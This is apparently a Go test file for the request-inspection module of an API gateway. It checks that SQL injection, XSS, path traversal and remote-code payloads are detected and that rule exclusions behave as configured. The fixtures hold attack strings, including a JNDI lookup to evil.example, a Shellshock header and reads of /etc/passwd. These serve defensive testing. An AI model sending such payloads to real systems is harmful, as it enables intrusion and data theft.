package inspect

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/sallyport/sallyport/config"
	"github.com/sallyport/sallyport/content"
	"github.com/sallyport/sallyport/exchange"
	"github.com/sallyport/sallyport/openapi"
)

const sqli = `1' OR '1'='1' UNION SELECT password FROM users--`

func post(typ, body string, headers ...string) []byte {
	return fmt.Appendf(nil, "POST /orders HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: okhttp/4.12.0\r\nAccept: application/json\r\nContent-Type: %s\r\nContent-Length: %d\r\n%s\r\n%s",
		typ, len(body), strings.Join(append(headers, ""), "\r\n"), body)
}

func get(target string, headers ...string) []byte {
	return fmt.Appendf(nil, "GET %s HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: okhttp/4.12.0\r\nAccept: application/json\r\n%s\r\n",
		target, strings.Join(append(headers, ""), "\r\n"))
}

func judgeOne(t *testing.T, c config.Inspect, raw []byte) (string, *exchange.Exchange) {
	t.Helper()
	code, e, err := judgeRecorded(testJudge(t, c), raw)
	if err != nil {
		t.Fatal(err)
	}
	return code, e
}

func fields(e *exchange.Exchange) string {
	var out []string
	for _, f := range e.Findings {
		out = append(out, f.Rule+" "+f.Field)
	}
	return strings.Join(out, ", ")
}

// Every place of a request is judged, and named in our notation.
func TestPlaces(t *testing.T) {
	multipart := "--b\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"shell.php\"\r\nContent-Type: image/png\r\n\r\nx\r\n--b--\r\n"
	for _, c := range []struct {
		name  string
		raw   []byte
		code  string
		field string
	}{
		{"query", get("/items?q=1%27%20UNION%20SELECT%20password%20FROM%20users--"), "inspect.sqli", "query.q"},
		{"query, odd name", get("/items?a.b=1%27%20UNION%20SELECT%20password%20FROM%20users--"), "inspect.sqli", `query["a.b"]`},
		{"path segment", get("/items/1%27%20UNION%20SELECT%20password%20FROM%20users--"), "inspect.sqli", "path[1]"},
		{"header", get("/", "X-Note: ${jndi:ldap://evil.example/a}"), "inspect.rce", "header.x-note"},
		{"user agent", get("/", "Referer: () { :; }; /bin/cat /etc/passwd"), "inspect.rce", "header.referer"},
		{"cookie", get("/", "Cookie: theme=dark; sid=<script>alert(1)</script>"), "inspect.xss", "cookie.sid"},
		{"cookie that net/http drops", get("/", "Cookie: sid=\"1' UNION SELECT password FROM users--"), "inspect.sqli", "cookie.sid"},
		{"JSON", post("application/json", `{"items":[{"note":"x"},{"note":"`+sqli+`"}]}`), "inspect.sqli", "body.items[1].note"},
		{"JSON, escaped", post("application/json", `{"note":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`), "inspect.xss", "body.note"},
		{"JSON root", post("application/json", `"`+sqli+`"`), "inspect.sqli", "body"},
		{"JSON name", post("application/json", `{"<script>alert(1)</script>":1}`), "inspect.xss", `body["<script>alert(1)</script>"]`},
		{"JSON of a vendor", post("application/vnd.x+json", `{"note":"`+sqli+`"}`), "inspect.sqli", "body.note"},
		{"form", post("application/x-www-form-urlencoded", "a=1&note=..%2F..%2Fetc%2Fpasswd"), "inspect.lfi", "body.note"},
		{"repeated form field", post("application/x-www-form-urlencoded", "tag=a&tag=%3Cscript%3Ealert(1)%3C/script%3E"), "inspect.xss", "body.tag[1]"},
		{"XML", post("application/xml", "<a><b>"+strings.ReplaceAll(sqli, "'", "&apos;")+"</b></a>"), "inspect.sqli", "body.b"},
		{"text", post("text/plain", sqli), "inspect.sqli", "body"},
		{"file name", post("multipart/form-data; boundary=b", multipart), "inspect.rce", "body.avatar.filename"},
		{"plain", post("application/json", `{"note":"two pieces, please", "quantity": 2}`), "passed", ""},
	} {
		code, e := judgeOne(t, config.Inspect{}, c.raw)
		if code != c.code {
			t.Errorf("%s: %s, want %s", c.name, code, c.code)
		}
		if e == nil {
			t.Errorf("%s: refused by the front", c.name)
		} else if c.field != "" && !strings.Contains(fields(e)+",", " "+c.field+",") {
			t.Errorf("%s: findings in %q, want one in %q", c.name, fields(e), c.field)
		}
	}
}

func TestFindingIsMasked(t *testing.T) {
	_, e := judgeOne(t, config.Inspect{}, post("application/json", `{"note":"hunter2 `+sqli+`"}`))
	if len(e.Findings) == 0 {
		t.Fatal("no finding")
	}
	for _, f := range e.Findings {
		if strings.Contains(f.Match, "UNION") || strings.Contains(f.Match+f.Message, "hunter2") {
			t.Errorf("finding shows the value: %+v", f)
		}
		if f.Rule == "" || f.Message == "" || f.Severity == "" || f.Score == 0 || paranoiaOf(f.Tags) != 1 || f.Guard != "inspect.body" {
			t.Errorf("finding lacks something: %+v", f)
		}
	}
}

// The verdict's setting, pasted into the config, lets the request pass, and nothing narrower does.
func TestSettingIsEnough(t *testing.T) {
	raw := post("application/json", `{"items":[{"note":"`+sqli+`"}]}`)
	e, _ := readExchange(raw)
	j := testJudge(t, config.Inspect{})
	v, err := j.body(context.Background(), e)
	if err != nil || v.Passed() || !strings.HasPrefix(v.Setting, "apis[].inspect.exclude:\n- rule: ") {
		t.Fatalf("%+v, %v", v, err)
	}
	if !strings.Contains(v.Setting, "field: 'body.items[*].note'\n  operation: \"any\"") {
		t.Errorf("setting is not narrow:\n%s", v.Setting)
	}
	var list []config.Exclusion
	for _, part := range strings.Split(v.Setting, "- rule: ")[1:] {
		list = append(list, config.Exclusion{Rule: strings.Trim(strings.SplitN(part, "\n", 2)[0], `"`), Field: "body.items[*].note", Operation: "any"})
	}
	if code, _ := judgeOne(t, config.Inspect{Exclude: list}, raw); code != "passed" {
		t.Errorf("with the setting: %s", code)
	}
	if code, _ := judgeOne(t, config.Inspect{Exclude: list[1:]}, raw); code == "passed" {
		t.Error("passes with less than the setting")
	}
}

// Rule 932280 takes every {a,b} for a shell's brace expansion. What explain proposes lets a query of metrics pass, in
// every element of the list by one entry, and nothing else.
func TestSettingForAFalsePositive(t *testing.T) {
	const body = `{"queries":[{"query":"avg:cpu{env:a} by {host,zone}"},{"query":"max:cpu{*} by {host,zone,os}"}],"note":%q}`
	e, _ := readExchange(post("application/json", fmt.Sprintf(body, "x")))
	v, err := testJudge(t, config.Inspect{}).body(context.Background(), e)
	if want := "apis[].inspect.exclude:\n- rule: \"932280\"\n  field: 'body.queries[*].query'\n  operation: \"any\"\n  reason: \"found to be harmless\""; err != nil || v.Setting != want {
		t.Fatalf("%+v, %v, want the setting %s", v, err, want)
	}
	c := config.Inspect{Exclude: []config.Exclusion{{Rule: "932280", Field: "body.queries[*].query", Operation: "any"}}}
	for note, want := range map[string]string{"x": "passed", "{cat,/etc/passwd}": "inspect.rce"} {
		if code, _ := judgeOne(t, c, post("application/json", fmt.Sprintf(body, note))); code != want {
			t.Errorf("with the note %s: %s, want %s", note, code, want)
		}
	}
}

func TestExclusions(t *testing.T) {
	raw := post("application/json", `{"items":[{"note":"`+sqli+`"}]}`)
	for _, c := range []struct {
		name  string
		x     config.Exclusion
		clean bool
	}{
		{"by tag", config.Exclusion{Rule: "attack-sqli"}, true},
		{"by field", config.Exclusion{Rule: "attack-sqli", Field: "body.items[*].note"}, true},
		{"by element", config.Exclusion{Rule: "attack-sqli", Field: "body.items[0].note"}, true},
		{"other element", config.Exclusion{Rule: "attack-sqli", Field: "body.items[1].note"}, false},
		{"above the field", config.Exclusion{Rule: "attack-sqli", Field: "body.items"}, true},
		{"beside the field", config.Exclusion{Rule: "attack-sqli", Field: "body.item"}, false},
		{"part of a name", config.Exclusion{Rule: "attack-sqli", Field: "body.items[*].no"}, false},
		{"other part", config.Exclusion{Rule: "attack-sqli", Field: "query.items"}, false},
		{"other tag", config.Exclusion{Rule: "attack-xss"}, false},
		{"this operation", config.Exclusion{Rule: "attack-sqli", Operation: "any"}, true},
		{"other operation", config.Exclusion{Rule: "attack-sqli", Operation: "GET /"}, false},
		{"not expired", config.Exclusion{Rule: "attack-sqli", Expires: "2999-01-01"}, true},
		{"expired", config.Exclusion{Rule: "attack-sqli", Expires: "2001-01-01"}, false},
	} {
		code, e := judgeOne(t, config.Inspect{Exclude: []config.Exclusion{c.x}}, raw)
		if (code == "passed") != c.clean {
			t.Errorf("%s: %s (%s)", c.name, code, fields(e))
		}
	}
}

// An address at the end of a path is no file, where the spec says that a value stands there.
func TestValueAtTheEndOfThePath(t *testing.T) {
	i, err := New(Options{Pool: &sharedPool})
	if err != nil {
		t.Fatal(err)
	}
	for operation, want := range map[string]string{"GET /people/{email}": "passed", "GET /people/backup": "inspect.protocol", "undocumented": "inspect.protocol"} {
		j, err := i.newJudge(config.Inspect{}, operation)
		if err != nil {
			t.Fatal(err)
		}
		if code, _, _ := judgeRecorded(j, get("/people/ada@example.com")); code != want {
			t.Errorf("%s: %s, want %s", operation, code, want)
		}
	}
}

// An exclusion ends on its day without a reload.
func TestExclusionExpiresWhileRunning(t *testing.T) {
	now := time.Date(2026, 1, 30, 23, 0, 0, 0, time.UTC)
	i, err := New(Options{Pool: &sharedPool, Now: func() time.Time { return now }})
	if err != nil {
		t.Fatal(err)
	}
	j, err := i.newJudge(config.Inspect{Exclude: []config.Exclusion{{Rule: "attack-sqli", Expires: "2026-01-31"}}}, "any")
	if err != nil {
		t.Fatal(err)
	}
	raw := get("/items?q=1%27%20UNION%20SELECT%20password%20FROM%20users--")
	if code, _, _ := judgeRecorded(j, raw); code != "passed" {
		t.Errorf("before: %s", code)
	}
	now = now.Add(time.Hour)
	if code, _, _ := judgeRecorded(j, raw); code != "inspect.sqli" {
		t.Errorf("after: %s", code)
	}
}

func TestBadSettings(t *testing.T) {
	i, err := New(Options{Pool: &sharedPool})
	if err != nil {
		t.Fatal(err)
	}
	op := &openapi.Operation{Key: "GET /"}
	for name, c := range map[string]config.Inspect{
		"paranoia":     {Paranoia: 5},
		"threshold":    {Threshold: -1},
		"unknown rule": {Exclude: []config.Exclusion{{Rule: "999999"}}},
		"bad day":      {Exclude: []config.Exclusion{{Rule: "942100", Expires: "tomorrow"}}},
		"bad host":     {URLs: config.URLs{Allow: []string{"http://x"}}},
	} {
		if g, err := i.Guards(c, op, false); err == nil || g != nil {
			t.Errorf("%s: accepted", name)
		}
	}
}

// Scores of head and body add up, and each finding counts once.
func TestScoreSpansHeadAndBody(t *testing.T) {
	e, _ := readExchange(post("application/json", `{"note":"`+sqli+`"}`))
	e.Findings = []exchange.Finding{{Guard: "inspect.head", Rule: "920350", Field: "header.host", Score: 3}}
	j := testJudge(t, config.Inspect{Threshold: 1000})
	if v, err := j.body(context.Background(), e); err != nil || !v.Passed() {
		t.Fatal(v, err)
	}
	sum := total(e.Findings)
	e.Findings = e.Findings[:1]
	if v, _ := testJudge(t, config.Inspect{Threshold: sum}).body(context.Background(), e); v.Passed() {
		t.Error("the head's score does not count")
	}
	e.Findings = e.Findings[:1]
	if v, _ := testJudge(t, config.Inspect{Threshold: sum + 1}).body(context.Background(), e); !v.Passed() {
		t.Error("a finding counts twice")
	}
}

// inspect.body does not do the work of inspect.head, which may be switched off.
func TestBodyLeavesHeadAlone(t *testing.T) {
	raw := post("application/json", `{"note":"x"}`, "X-Note: <script>alert(1)</script>")
	e, err := readExchange(raw)
	if err != nil {
		t.Fatal(err)
	}
	j := testJudge(t, config.Inspect{})
	if v, err := j.body(context.Background(), e); err != nil || !v.Passed() || len(e.Findings) > 0 {
		t.Errorf("%+v, %v, %s", v, err, fields(e))
	}
	if v, err := j.head(context.Background(), e); err != nil || v.Passed() {
		t.Errorf("%+v, %v", v, err)
	}
}

func TestMoreTextThanInspected(t *testing.T) {
	big := post("application/json", `{"note":"`+strings.Repeat("a ", 2000)+`"}`)
	if code, _ := judgeOne(t, config.Inspect{MaxBytes: 1000}, big); code != "inspect.too_large" {
		t.Errorf("request: %s", code)
	}
	m := new(Message)
	m.reset(Answer)
	for _, s := range []string{"abc", "defgh", "ijk"} {
		m.add(AnswerPart, -1, s)
	}
	if cut := m.truncate(5); cut != 6 || len(m.Values) != 2 || m.Values[1].Text != "de" {
		t.Errorf("%d %v", cut, m.Values)
	}
}

func TestJudgementTooLate(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	e, _ := readExchange(get("/"))
	if v, err := testJudge(t, config.Inspect{}).head(ctx, e); err != nil || v.Reason != exchange.InspectionBusy {
		t.Errorf("%+v, %v", v, err)
	}
	e = answerOf(t, 200, "application/json", `{"a":"b"}`)
	if v, err := testJudge(t, config.Inspect{}).answer(ctx, e); err != nil || v.Reason != exchange.InspectionBusy {
		t.Errorf("%+v, %v", v, err)
	}
}

// An expiring context is over after it was asked a few times.
type expiring struct {
	context.Context
	left int
}

func (e *expiring) Err() error {
	if e.left--; e.left < 0 {
		return context.DeadlineExceeded
	}
	return nil
}

// Time that runs out while a long message is judged is noticed: among many values, and among many rules on one.
func TestJudgementInterrupted(t *testing.T) {
	for name, body := range map[string]string{
		"many values": times(20_000, `"a note %d"`),
		"one text":    `"` + strings.Repeat("select (a) from <b> where 'c' = 'd'; ", 2000) + `"`,
	} {
		e, err := readExchange(post("application/json", body))
		if err != nil {
			t.Fatal(err)
		}
		j := testJudge(t, config.Inspect{MaxBytes: 16 << 20})
		ctx := &expiring{t.Context(), 1 << 30}
		if _, err := j.body(ctx, e); err != nil || ctx.left > 1<<30-5 {
			t.Errorf("%s: the time was looked at %d times, %v", name, 1<<30-ctx.left, err)
		}
		v, err := j.body(&expiring{t.Context(), 3}, e)
		if err != nil || v.Reason != exchange.InspectionBusy {
			t.Errorf("%s: %+v, %v", name, v, err)
		}
	}
}

func TestPoolShares(t *testing.T) {
	a := testJudge(t, config.Inspect{Threshold: 7})
	b := testJudge(t, config.Inspect{Exclude: []config.Exclusion{{Rule: "942100"}}})
	if a.engine != b.engine {
		t.Error("two settings with equal rules have an engine each")
	}
}

// Values with one name are each judged, wherever they stand among the others.
func TestRepeatedNames(t *testing.T) {
	for at := range 8 {
		pairs := make([]string, 8)
		for i := range pairs {
			pairs[i] = "a=" + strings.Repeat("x", i)
		}
		pairs[at] = "a=%3Cscript%3Ealert(1)%3C/script%3E"
		if code, _ := judgeOne(t, config.Inspect{}, get("/?"+strings.Join(pairs, "&")+"&b=1&c=2&d=3")); code != "inspect.xss" {
			t.Errorf("pair %d: %s", at, code)
		}
	}
}

func answerOf(t *testing.T, status int, typ, body string) *exchange.Exchange {
	t.Helper()
	e, err := readExchange(get("/"))
	if err != nil {
		t.Fatal(err)
	}
	b, err := content.New([]byte(body), content.Header{ContentType: []string{typ}}, content.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	e.Response = &exchange.Response{Status: status, Body: b}
	return e
}

func TestURLGuardNotation(t *testing.T) {
	e := answerOf(t, 200, "application/json", `{"hooks":[{"url":"x"},{"a/b":{"0":"x"}}]}`)
	tree, err := e.Response.Body.Tree()
	if err != nil {
		t.Fatal(err)
	}
	for pointer, want := range map[string]string{"": "", "/hooks/0/url": ".hooks[0].url", "/hooks/1/a~1b/0": `.hooks[1]["a/b"].0`} {
		if got := notation(tree, pointer); got != want {
			t.Errorf("%s: %s, want %s", pointer, got, want)
		}
	}
}

// A body that does not parse is refused for what is wrong with it: where validation is off or monitors, these guards
// are the first to see it, and the message is at fault, not the gateway.
func TestMalformedBody(t *testing.T) {
	file := "--b\r\nContent-Disposition: form-data; name=\"a\"; filename=\".\"\r\n\r\nx\r\n--b--\r\n"
	for _, c := range []struct {
		typ, body string
		reason    *exchange.Reason
	}{
		{"application/json", `{"url":`, exchange.BodyMalformed},
		{"application/json", `{"url":"https://example.com/","url":"http://127.0.0.1/"}`, exchange.BodyAmbiguous},
		{"application/json", `{"url":` + strings.Repeat("[", 100) + strings.Repeat("]", 100) + `}`, exchange.BodyTooComplex},
		{"application/xml", "<a><b></a>", exchange.BodyMalformed},
		{"multipart/form-data; boundary=b", file, exchange.BodyAmbiguous},
	} {
		e := &exchange.Exchange{Request: httptest.NewRequest(http.MethodPost, "/hooks", nil), Operation: hooks(t)}
		e.Body, _ = content.New([]byte(c.body), content.Header{ContentType: []string{c.typ}}, content.Limits{})
		i, err := New(Options{Pool: &sharedPool})
		if err != nil {
			t.Fatal(err)
		}
		guards, err := i.Guards(config.Inspect{}, e.Operation, false)
		if err != nil {
			t.Fatal(err)
		}
		asked := 0
		for _, g := range guards {
			if g.Phase != exchange.OnBody {
				continue
			}
			asked++
			if v, err := g.Check(t.Context(), e); err != nil || !v.Refused() || v.Reason != c.reason {
				t.Errorf("%s: %s: %+v, %v", g.Name, c.body, v, err)
			}
		}
		if asked != 2 {
			t.Errorf("%d guards asked", asked)
		}
	}
}
